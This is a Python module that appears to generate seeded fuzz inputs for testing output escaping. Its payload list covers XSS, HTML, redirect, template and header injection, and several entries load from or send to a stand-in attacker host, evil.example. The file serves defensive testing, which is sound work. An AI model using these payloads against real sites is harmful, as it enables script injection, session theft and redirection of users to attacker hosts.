"""Texts that try to become markup, attributes, addresses, header lines or template code, made from a seed."""

import random

BREAKERS = (
    *("", '"', "'", '">', "'>", "`", "-->", "]]>", "&quot;>", "\r\n\r\n"),
    *("</title>", "</textarea>", "</script>", "</option></select>", "</td></tr>"),
)
PAYLOADS = (
    "<script>alert(1)</script>",
    "<script src=//evil.example/x></script>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><a xlink:href=javascript:alert(1)><text>x</text></a></svg>",
    "<math><mi//xlink:href='data:x,<script>alert(1)</script>'>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<body onload=alert(1)>",
    "<form action=//evil.example><button formaction=//evil.example>x</button></form>",
    "<input autofocus onfocus=alert(1)>",
    "<a href=javascript:alert(1)>x</a>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>*{background:url(//evil.example)}</style>",
    "<x-foreign hx-get=//evil.example hx-trigger=load>",
    "<div hx-on:click=alert(1) data-live=//evil.example data-drawer>",
    " onmouseover=alert(1) x=",
    " style=background:url(//evil.example) x=",
    " autofocus onfocus=alert(1) x=",
    " formaction=//evil.example x=",
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)//",
    "java\tscript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "//evil.example/%2e%2e",
    "/\\evil.example",
    "https://evil.example/",
    "{{7*7}}{% raw %}",
    "{{ visit.csrf }}",
    "${7*7}#{7*7}",
    "%(name)s %s {0} {name}",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "\\u003cscript\\u003e",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<<script>alert(1)//<</script>",
    "<script\x00>alert(1)</script>",
    "＜script＞alert(1)＜/script＞",
    "<!--<img src='--><img src=x onerror=alert(1)>'",
    "<![CDATA[<img src=x onerror=alert(1)>]]>",
    "<?xml version='1.0'?><x-foreign/>",
    "[x](javascript:alert(1))",
    "![x](//evil.example/x.png)",
    "<details open ontoggle=alert(1)>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "\u202e<script>\u2028alert(1)\u2029</script>",
    "\x1b]8;;https://evil.example\x07x\x1b]8;;\x07",
    "Set-Cookie: tocsin_session=x\r\nLocation: //evil.example",
)


def texts(seed: int, count: int) -> list[str]:
    """Every payload is among them where there is room, first alone, then in company."""
    chance = random.Random(seed)
    made = [chance.choice(BREAKERS) + one for one in PAYLOADS]
    while len(made) < count:
        pieces = [chance.choice(BREAKERS) + chance.choice(PAYLOADS) for _ in range(chance.randint(1, 3))]
        made.append("".join(_changed(chance, piece) for piece in pieces)[:240])
    chance.shuffle(made)
    return made[:count]


def _changed(chance: random.Random, text: str) -> str:
    """Now and then in another case, with a blank in it, or with a letter that is written another way."""
    kind = chance.randrange(8)
    if kind == 0:
        return text.swapcase()
    if kind == 1:
        at = chance.randrange(len(text) + 1)
        return text[:at] + chance.choice(("\t", "\n", "/", "\x0c", "\x00", "&#9;")) + text[at:]
    if kind == 2:
        return text.replace("<", "\\<").replace('"', '\\"')
    return text
